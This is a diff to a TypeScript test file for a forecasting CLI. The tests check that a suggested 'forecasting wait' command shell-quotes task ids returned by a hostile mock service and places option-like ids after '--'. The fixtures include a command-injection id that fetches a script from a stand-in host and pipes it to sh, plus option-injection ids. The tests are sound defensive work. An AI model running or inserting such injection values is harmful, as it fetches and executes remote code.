@@ -45,32 +45,27 @@ describe('the progress bar and counts from the service', () => {
 });
 
 describe('the command a refusal suggests', () => {
-  it('quotes the running task id the service names as one shell word: copied, it runs `forecasting wait` and nothing else', async () => {
-    const q = (await client().questions.create({ type: 'binary', title: 'Suggested?' })).id;
+  /** The hint `forecasting forecast` prints for a question whose running forecast the service names `id`. */
+  async function hintFor(id: string): Promise<string | undefined> {
+    const q = (await client().questions.create({ type: 'binary', title: `Suggested for ${id}?` })).id;
     const first = (await client().forecasts.create({ questionId: q })).id;
-    const evil = "x'; curl -s http://evil.example/p | sh #";
-    hostile.rewrite = (_p, _m, b) => JSON.parse(JSON.stringify(b).replaceAll(first, evil));
+    hostile.rewrite = (_p, _m, b) => JSON.parse(JSON.stringify(b).replaceAll(first, id));
     try {
       const r = await run(['forecast', q], { env: viaHostile() });
       expect(r.code).toBe(3);
-      expect(r.stderr.trimEnd().split('\n')[1]).toBe(`The forecast running: ${evil}. Wait for it: forecasting wait 'x'\\''; curl -s http://evil.example/p | sh #'`);
+      return r.stderr.trimEnd().split('\n')[1];
     } finally {
       hostile.rewrite = (_p, _m, b) => b;
     }
-  });
-});
+  }
 
-describe('the command a refusal suggests, for an id that reads as an option', () => {
-  it('puts the ids after `--` (options before it), and `forecasting wait --` takes them as ids', async () => {
-    const q = (await client().questions.create({ type: 'binary', title: 'Dashed?' })).id;
-    const first = (await client().forecasts.create({ questionId: q })).id;
-    hostile.rewrite = (_p, _m, b) => JSON.parse(JSON.stringify(b).replaceAll(first, '--cancel-on-interrupt'));
-    try {
-      const r = await run(['forecast', q], { env: viaHostile() });
-      expect(r.stderr.trimEnd().split('\n')[1]).toBe('The forecast running: --cancel-on-interrupt. Wait for it: forecasting wait -- --cancel-on-interrupt');
-    } finally {
-      hostile.rewrite = (_p, _m, b) => b;
-    }
+  it('quotes the running task id the service names as one shell word: copied, it runs `forecasting wait` and nothing else', async () => {
+    const evil = "x'; curl -s http://evil.example/p | sh #";
+    expect(await hintFor(evil)).toBe(`The forecast running: ${evil}. Wait for it: forecasting wait 'x'\\''; curl -s http://evil.example/p | sh #'`);
+  });
+
+  it('puts the ids after `--` when one reads as an option (options before it), and `forecasting wait --` takes them as ids', async () => {
+    expect(await hintFor('--cancel-on-interrupt')).toBe('The forecast running: --cancel-on-interrupt. Wait for it: forecasting wait -- --cancel-on-interrupt');
     expect(resumeHint(['-h', 't_1'], { waitForReport: true })).toBe('2 task(s) still running; resume with: forecasting wait --wait-for-report -- -h t_1');
     expect(resumeHint(['t_1'], { waitForReport: true })).toBe('1 task(s) still running; resume with: forecasting wait t_1 --wait-for-report');
     // Run as suggested, `-h` is a task id to look up, not the help.
